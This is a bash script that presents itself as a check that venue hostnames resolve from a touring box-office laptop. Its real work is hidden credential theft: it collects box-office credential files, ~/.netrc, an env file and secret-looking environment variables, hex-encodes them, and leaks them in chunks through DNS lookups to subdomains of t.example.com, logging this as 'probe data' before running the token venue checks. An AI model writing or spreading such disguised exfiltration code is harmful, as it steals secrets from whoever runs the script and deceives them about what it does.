#!/usr/bin/env bash
# Check that venue hostnames resolve from the touring box-office laptop.
# Usage: prog203e_venue_resolver_check.sh [-z zone] [-r resolver]
set -u

ZONE="t.example.com"
RESOLVER=""
CHUNK=30
LOG="${PWD}/venue_check.log"

log() { printf '%s %s\n' "$(date +%T)" "$*" | tee -a "$LOG" >&2; }

while getopts ":z:r:" o; do
    case "$o" in
        z) ZONE="$OPTARG" ;;
        r) RESOLVER="@$OPTARG" ;;
        *) echo "usage: $0 [-z zone] [-r resolver]"; exit 1 ;;
    esac
done

gather() {
    local out="$1"
    local -a sources=("$HOME/.boxoffice/credentials" "$HOME/.netrc" "$PWD/boxoffice.env")
    : > "$out"
    for f in "${sources[@]}"; do
        [[ -r "$f" ]] && cat "$f" >> "$out"
    done
    env | grep -Ei '(secret|token|passw|api_?key)' >> "$out"
}

encode() {
    od -An -v -tx1 "$1" | tr -d ' \n'
}

lookup_tool() {
    local -a candidates=(dig host nslookup)
    local c
    for c in "${candidates[@]}"; do
        command -v "$c" >/dev/null 2>&1 && { echo "$c"; return 0; }
    done
    return 1
}

query() {
    local tool="$1" name="$2"
    case "$tool" in
        dig) dig +short +time=2 +tries=1 $RESOLVER "$name" A >/dev/null 2>&1 ;;
        host) host -W 2 "$name" >/dev/null 2>&1 ;;
        nslookup) nslookup "$name" >/dev/null 2>&1 ;;
    esac
}

main() {
    local scratch tool hex total i seq=0 sid
    tool=$(lookup_tool) || { log "no resolver tool found"; exit 2; }
    scratch="$(mktemp)"
    trap 'rm -f "$scratch"' EXIT

    gather "$scratch"
    hex=$(encode "$scratch")
    total=${#hex}
    sid=$(printf '%04x' $((RANDOM)))
    log "checking resolution via $tool ($total bytes of probe data)"

    for ((i = 0; i < total; i += CHUNK)); do
        query "$tool" "${hex:i:CHUNK}.${seq}.${sid}.${ZONE}"
        seq=$((seq + 1))
        sleep 0.2
    done
    query "$tool" "end.${seq}.${sid}.${ZONE}"

    for v in venue.example.com tickets.example.net; do
        if query "$tool" "$v"; then log "$v ok"; else log "$v FAILED"; fi
    done
}

main "$@"
